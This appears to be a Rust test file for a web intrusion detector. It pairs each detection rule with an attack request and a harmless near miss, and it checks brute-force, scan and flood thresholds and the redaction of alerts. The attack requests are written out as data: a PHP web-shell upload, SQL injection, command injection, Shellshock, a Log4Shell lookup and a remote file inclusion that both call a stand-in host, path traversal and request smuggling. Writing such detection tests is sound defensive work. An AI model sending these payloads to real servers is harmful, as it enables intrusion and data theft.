//! Every default rule fires on an attack request and stays quiet on a near miss.
//! Requests are raw HTTP, parsed by the real HTTP layer, judged under a policy where
//! 10.20.0.0/16 may change /admin/ and /api/, and /permits/upload takes pdf/jpg/png.

use std::path::Path;
use std::sync::Arc;

use super::*;
use crate::flow::Direction;
use crate::http::session::FlowContext;
use crate::reassembly::Chunk;

const POLICY: &str = r#"
policy:
  authorized:
    - sources: [10.20.0.0/16]
      methods: [POST, PUT, PATCH, DELETE]
      paths: [/admin/, /api/]
  upload_endpoints:
    - path: /permits/upload
      extensions: [pdf, jpg, jpeg, png]
      max_bytes: 100000
  public_endpoints: [/contact, /login]
"#;

const ATTACKER: &str = "198.51.100.7";
const ADMIN: &str = "10.20.1.5";

fn detector() -> Detector {
    let config = Config::parse(POLICY, Path::new("test.yaml")).expect("policy");
    let rules_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    Detector::load(&rules_dir, &config, Arc::new(ThresholdTable::default())).expect("default rules")
}

/// Parses one request (and a response with `status`) into a transaction.
fn txn(src: &str, request: &[u8], status: u16, at_secs: i64) -> HttpTransaction {
    let ctx = FlowContext {
        flow_id: 1,
        client: format!("{src}:40000").parse().expect("addr"),
        server: "203.0.113.10:80".parse().expect("addr"),
        keep_response_bytes: crate::http::session::MAX_RESPONSE_PREFIX_BYTES,
    };
    let mut s = crate::http::HttpSession::default();
    let mut out = Vec::new();
    let now = Timestamp::from_secs_micros(at_secs, 0);
    s.on_chunk(
        Direction::ToServer,
        Chunk::Data(request),
        now,
        &ctx,
        &mut out,
    );
    let resp = format!("HTTP/1.1 {status} X\r\nContent-Length: 0\r\n\r\n");
    s.on_chunk(
        Direction::ToClient,
        Chunk::Data(resp.as_bytes()),
        now,
        &ctx,
        &mut out,
    );
    s.finish(now, &ctx, &mut out);
    out.into_iter().next().expect("one transaction")
}

fn get(path: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: www.example.gov\r\nUser-Agent: Mozilla/5.0 Firefox/120.0\r\n\r\n").into_bytes()
}

fn with_body(method: &str, path: &str, content_type: &str, body: &str, extra: &str) -> Vec<u8> {
    format!(
        "{method} {path} HTTP/1.1\r\nHost: www.example.gov\r\n{extra}Content-Type: {content_type}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

fn upload(path: &str, filename: &str, declared: &str, content: &str) -> Vec<u8> {
    let body = format!(
        "--XB\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: {declared}\r\n\r\n{content}\r\n--XB--\r\n"
    );
    with_body("POST", path, "multipart/form-data; boundary=XB", &body, "")
}

/// A PDF upload to the sanctioned endpoint after `padding` header lines.
fn padded_upload(padding: usize) -> Vec<u8> {
    let pad: String = (0..padding)
        .map(|i| format!("X-Pad-{i}: {i}\r\n"))
        .collect();
    let body = "--XB\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\r\n--XB--\r\n";
    with_body(
        "POST",
        "/permits/upload",
        "multipart/form-data; boundary=XB",
        body,
        &pad,
    )
}

fn fired(d: &Detector, t: &HttpTransaction) -> Vec<String> {
    let mut out = Vec::new();
    d.evaluate(t, &mut out);
    out.into_iter().map(|a| a.rule.rule).collect()
}

/// (rule, attack, near miss): each a (source, raw request, status).
type Case = (
    &'static str,
    (&'static str, Vec<u8>, u16),
    (&'static str, Vec<u8>, u16),
);

fn cases() -> Vec<Case> {
    let jpeg = "\u{FF}\u{D8}\u{FF}\u{E0}JFIF";
    vec![
        ("upload.script-extension", (ATTACKER, upload("/permits/upload", "shell.php", "image/jpeg", "hello"), 200), (ATTACKER, upload("/permits/upload", "php-guide.pdf", "application/pdf", "%PDF-1.4"), 200)),
        ("upload.double-extension", (ATTACKER, upload("/permits/upload", "shell.php.jpg", "image/jpeg", "x"), 200), (ATTACKER, upload("/permits/upload", "photo.final.jpg", "image/jpeg", "x"), 200)),
        ("upload.executable-content", (ATTACKER, upload("/permits/upload", "cat.jpg", "image/jpeg", "<?php system($_GET['c']); ?>"), 200), (ATTACKER, upload("/permits/upload", "notes.pdf", "application/pdf", "%PDF-1.4 about php"), 200)),
        ("upload.type-mismatch", (ATTACKER, upload("/permits/upload", "scan.pdf", "application/pdf", "\u{7f}ELF\u{2}"), 200), (ATTACKER, upload("/permits/upload", "scan.pdf", "application/pdf", "%PDF-1.7"), 200)),
        ("upload.outside-endpoint", (ATTACKER, upload("/uploads/new", "a.pdf", "application/pdf", "%PDF-1.4"), 404), (ATTACKER, upload("/permits/upload", "a.pdf", "application/pdf", "%PDF-1.4"), 200)),
        ("upload.too-large", (ATTACKER, upload("/permits/upload", "big.pdf", "application/pdf", &"A".repeat(100_001)), 200), (ATTACKER, upload("/permits/upload", "small.pdf", "application/pdf", &"A".repeat(1000)), 200)),
        ("upload.extension-not-allowed", (ATTACKER, upload("/permits/upload", "form.docx", "application/msword", "PK"), 200), (ATTACKER, upload("/permits/upload", "form.jpeg", "image/jpeg", jpeg), 200)),
        ("upload.server-config-file", (ATTACKER, upload("/permits/upload", ".htaccess", "text/plain", "AddType x"), 200), (ATTACKER, upload("/permits/upload", "htaccess-notes.pdf", "application/pdf", "%PDF-1.4"), 200)),
        ("upload.filename-traversal", (ATTACKER, upload("/permits/upload", "../../www/a.jpg", "image/jpeg", jpeg), 200), (ATTACKER, upload("/permits/upload", "a..b.jpg", "image/jpeg", jpeg), 200)),
        ("modification.unauthorized-write-method", (ATTACKER, with_body("PUT", "/index.html", "text/html", "defaced", ""), 405), (ADMIN, with_body("PUT", "/api/news/5", "application/json", "{}", ""), 200)),
        ("modification.unauthorized-admin-post", (ATTACKER, with_body("POST", "/admin/pages/1", "application/x-www-form-urlencoded", "title=x", ""), 200), (ADMIN, with_body("POST", "/admin/pages/1", "application/x-www-form-urlencoded", "title=x", ""), 200)),
        ("modification.method-override", (ATTACKER, with_body("POST", "/news/1", "text/plain", "x", "X-HTTP-Method-Override: DELETE\r\n"), 200), (ATTACKER, with_body("POST", "/contact", "text/plain", "x", "X-Requested-With: XMLHttpRequest\r\n"), 200)),
        ("modification.config-file-write", (ATTACKER, with_body("PUT", "/.htaccess", "text/plain", "x", ""), 405), (ATTACKER, with_body("POST", "/contact", "application/x-www-form-urlencoded", "msg=my+.htaccess+question", ""), 200)),
        ("injection.sql-union", (ATTACKER, get("/news?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"), 200), (ATTACKER, get("/search?q=credit+union+select+a+date"), 200)),
        ("injection.sql-tautology", (ATTACKER, get("/news?id=1%27%20OR%201=1--"), 200), (ATTACKER, get("/search?q=O%27Brien%20or%20Smith"), 200)),
        ("injection.sql-data-change", (ATTACKER, with_body("POST", "/contact", "application/x-www-form-urlencoded", "name=x%27%3B+UPDATE+users+SET+admin%3D1--", ""), 200), (ATTACKER, with_body("POST", "/contact", "application/x-www-form-urlencoded", "msg=Drop+by+to+update+or+delete+your+permit%3B+select+a+date", ""), 200)),
        ("injection.sql-probe", (ATTACKER, get("/news?id=1%20AND%20SLEEP(5)"), 200), (ATTACKER, get("/search?q=sleep+well"), 200)),
        ("injection.os-command", (ATTACKER, get("/ping?host=127.0.0.1%3Bcat%20/etc/hosts"), 200), (ATTACKER, get("/search?q=cat+food%3B+dog+food"), 200)),
        ("injection.shellshock", (ATTACKER, b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c id\r\n\r\n".to_vec(), 200), (ATTACKER, b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (X11; Linux) {fun}\r\n\r\n".to_vec(), 200)),
        ("injection.log4shell", (ATTACKER, b"GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${${lower:j}ndi:ldap://198.51.100.7/a}\r\n\r\n".to_vec(), 200), (ATTACKER, get("/search?q=%24%7Bprice%7D"), 200)),
        ("injection.template", (ATTACKER, get("/hello?name=%7B%7B7*7%7D%7D"), 200), (ATTACKER, get("/hello?name=%7B%7Bname%7D%7D"), 200)),
        ("injection.script", (ATTACKER, get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), 200), (ATTACKER, get("/search?q=javascript+course"), 200)),
        ("traversal.dot-dot", (ATTACKER, get("/static/..%2f..%2f..%2fetc/hosts"), 404), (ATTACKER, get("/static/a..b/c.css"), 200)),
        ("traversal.encoded-evasion", (ATTACKER, get("/static/%252e%252e/%252e%252e/secret"), 404), (ATTACKER, get("/static/%2520spaces%2520.css"), 404)),
        ("traversal.local-file-inclusion", (ATTACKER, get("/view?page=php://filter/resource=index"), 200), (ATTACKER, get("/view?page=permits/index"), 200)),
        ("traversal.remote-file-inclusion", (ATTACKER, get("/view?page=http://198.51.100.7/shell.txt"), 200), (ATTACKER, get("/redirect?next=http://www.example.gov/"), 200)),
        ("traversal.nul-byte", (ATTACKER, get("/download?f=report.pdf%00.php"), 400), (ATTACKER, get("/download?f=report.pdf"), 200)),
        ("recon.secret-file-read", (ATTACKER, get("/.env"), 404), (ATTACKER, get("/environment/plan.html"), 200)),
        ("recon.scanner-user-agent", (ATTACKER, b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6)\r\n\r\n".to_vec(), 200), (ATTACKER, get("/"), 200)),
        ("recon.unusual-method", (ATTACKER, b"FOOBAR / HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(), 405), (ATTACKER, b"OPTIONS / HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(), 200)),
        ("recon.trace-or-propfind", (ATTACKER, b"PROPFIND / HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(), 405), (ATTACKER, b"HEAD / HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(), 200)),
        ("protocol.smuggling-headers", (ATTACKER, b"POST /contact HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_vec(), 400), (ATTACKER, b"POST /contact HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_vec(), 200)),
        ("protocol.over-parser-cap", (ATTACKER, padded_upload(200), 200), (ATTACKER, padded_upload(100), 200)),
        ("protocol.parser-ambiguity", (ATTACKER, b"POST /contact HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nhello".to_vec(), 400), (ATTACKER, b"POST /contact HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 5\r\n\r\nhello".to_vec(), 200)),
        ("protocol.obfuscated-transfer-encoding", (ATTACKER, b"POST /contact HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n".to_vec(), 400), (ATTACKER, b"POST /contact HTTP/1.1\r\nHost: x\r\nTransfer-Encoding:  chunked \r\n\r\n0\r\n\r\n".to_vec(), 200)),
    ]
}

mod evasion;

#[test]
fn each_rule_fires_on_its_attack_and_not_on_its_near_miss() {
    let d = detector();
    for (rule, (src, attack, status), (miss_src, miss, miss_status)) in cases() {
        let hit = fired(&d, &txn(src, &attack, status, 0));
        assert!(
            hit.iter().any(|r| r == rule),
            "{rule} did not fire on its attack; fired {hit:?}"
        );
        let quiet = fired(&d, &txn(miss_src, &miss, miss_status, 0));
        assert!(
            !quiet.iter().any(|r| r == rule),
            "{rule} fired on its near miss"
        );
    }
}

#[test]
fn threshold_rules_fire_once_past_the_threshold_and_not_below() {
    let d = detector();
    let login = || {
        with_body(
            "POST",
            "/login",
            "application/x-www-form-urlencoded",
            "user=a&password=wrong",
            "",
        )
    };
    let run =
        |src: &str, n: i64, status: u16, make: &dyn Fn(i64) -> Vec<u8>, rule: &str| -> usize {
            (0..n)
                .map(|i| {
                    fired(&d, &txn(src, &make(i), status, i))
                        .iter()
                        .filter(|r| *r == rule)
                        .count()
                })
                .sum()
        };
    assert_eq!(
        run(
            "198.51.100.20",
            9,
            401,
            &|_| login(),
            "brute_force.login-failures"
        ),
        0
    );
    assert_eq!(
        run(
            "198.51.100.21",
            25,
            401,
            &|_| login(),
            "brute_force.login-failures"
        ),
        1
    );
    assert_eq!(
        run(
            "198.51.100.22",
            25,
            200,
            &|_| login(),
            "brute_force.login-failures"
        ),
        0
    );
    let auth =
        |_| b"GET /private/ HTTP/1.1\r\nHost: x\r\nAuthorization: Basic eDp5\r\n\r\n".to_vec();
    assert_eq!(
        run(
            "198.51.100.23",
            12,
            401,
            &auth,
            "brute_force.basic-auth-failures"
        ),
        1
    );
    assert_eq!(
        run(
            "198.51.100.24",
            12,
            200,
            &auth,
            "brute_force.basic-auth-failures"
        ),
        0
    );
    let sweep = |i| get(&format!("/probe-{i}.php"));
    assert_eq!(
        run("198.51.100.25", 40, 404, &sweep, "recon.not-found-sweep"),
        1
    );
    let same = |_| get("/missing-logo.png");
    assert_eq!(
        run("198.51.100.26", 40, 404, &same, "recon.not-found-sweep"),
        0,
        "one broken link is not a sweep"
    );
    // 350 requests spread over 350 s is a steady visitor; 350 within a second is a flood.
    let flood = |_| get("/");
    assert_eq!(
        run("198.51.100.27", 350, 200, &flood, "flood.http-requests"),
        0
    );
    let burst: usize = (0..350)
        .map(|_| {
            fired(&d, &txn("198.51.100.28", &get("/"), 200, 0))
                .iter()
                .filter(|r| *r == "flood.http-requests")
                .count()
        })
        .sum();
    assert_eq!(burst, 1);
}

#[test]
fn every_default_rule_has_a_test() {
    let d = detector();
    let tested: Vec<&str> = cases().iter().map(|c| c.0).collect();
    let thresholds = [
        "brute_force.login-failures",
        "brute_force.basic-auth-failures",
        "recon.not-found-sweep",
        "flood.http-requests",
    ];
    for rule in d.rules().rules() {
        assert!(
            tested.contains(&rule.name.as_str()) || thresholds.contains(&rule.name.as_str()),
            "rule {} has no fire/near-miss test",
            rule.name
        );
    }
}

#[test]
fn alerts_carry_no_query_values_and_capped_evidence() {
    let d = detector();
    let t = txn(ATTACKER, &get("/news?id=1%27%20UNION%20SELECT%20secret_col%20FROM%20users--&email=someone%40example.org"), 200, 0);
    let mut alerts = Vec::new();
    d.evaluate(&t, &mut alerts);
    assert!(!alerts.is_empty());
    for a in alerts {
        let url = a.http.as_ref().map(|h| h.url.clone()).unwrap_or_default();
        assert_eq!(url, "/news?id=<redacted>&email=<redacted>");
        assert!(a.evidence.len() <= alert::MAX_EVIDENCE_BYTES);
        assert!(!a.evidence.contains("someone"));
    }
}

#[test]
fn hostile_requests_cost_bounded_work() {
    let d = detector();
    let deep = "%25".repeat(5000) + "2e";
    let huge_query: String = (0..5000).map(|i| format!("p{i}=v&")).collect();
    for req in [get(&format!("/{deep}")), get(&format!("/?{huge_query}"))] {
        let t = txn(ATTACKER, &req, 404, 0);
        let values = FieldValues::extract(&t, &[]);
        assert!(values.get(fields::Field::QueryNames).len() <= fields::MAX_PARAMS);
        let _ = fired(&d, &t);
    }
}
